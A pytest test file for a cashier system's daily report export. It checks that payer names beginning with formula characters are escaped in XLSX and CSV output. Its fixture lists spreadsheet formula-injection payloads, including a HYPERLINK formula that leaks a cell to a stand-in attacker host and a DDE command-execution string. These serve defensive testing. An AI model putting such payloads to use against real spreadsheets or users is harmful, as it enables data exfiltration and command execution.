"""Issue 14 item 9: a payer or cashier name starting with = + - @ tab or CR never becomes a live
formula in the daily report's XLSX or CSV export; amounts stay numbers."""

from __future__ import annotations

import csv
from decimal import Decimal

import openpyxl
import pytest

from workflows.cashier.report import csv_safe, daily_report, export_csv, export_xlsx

from .conftest import outpatient_form

pytestmark = pytest.mark.unit

NAMES = ('=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
         "\t=1+1", "\r=1+1")
STORED = {n.strip() for n in NAMES}  # the entry form trims the payer: tab/CR names arrive as "=1+1"


def _report(window, clock):
    services, _ = window
    for name in NAMES:
        form = outpatient_form(services)
        form.header["payer"] = name
        services.issuing.issue(form, "=CASHIER()")
    return daily_report(services.bills, clock.now().date(), services.catalog, "001")


def test_xlsx_cells_are_text_not_formulas(window, tmp_path, clock) -> None:
    wb = openpyxl.load_workbook(export_xlsx(_report(window, clock), tmp_path / "r.xlsx"))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    payers = {c.value for c in cells if c.column == 5 and c.parent.title == "日报明细表"}
    assert STORED <= payers  # exactly what was stored, as text
    for c in cells:
        if c.value in STORED or c.value == "=CASHIER()":
            assert c.data_type == "s" and c.quotePrefix
    amounts = [c.value for c in wb["日报明细表"]["F"][2:]]
    assert amounts and all(isinstance(a, int | float | Decimal) for a in amounts)


def test_csv_cells_cannot_start_a_formula(window, tmp_path, clock) -> None:
    path = export_csv(_report(window, clock), tmp_path / "r.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [v for row in csv.reader(fh) for v in row]
    assert not [v for v in cells if v[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [v for v in cells if v.startswith("-") and not v.replace("-", "", 1).replace(".", "", 1).isdigit()]
    for name in STORED:
        assert "'" + name in cells


@pytest.mark.parametrize("text, safe", [
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("-12.50", "-12.50"), ("-", "'-"), ("张三", "张三"), ("", ""),
])
def test_csv_safe(text: str, safe: str) -> None:
    assert csv_safe(text) == safe
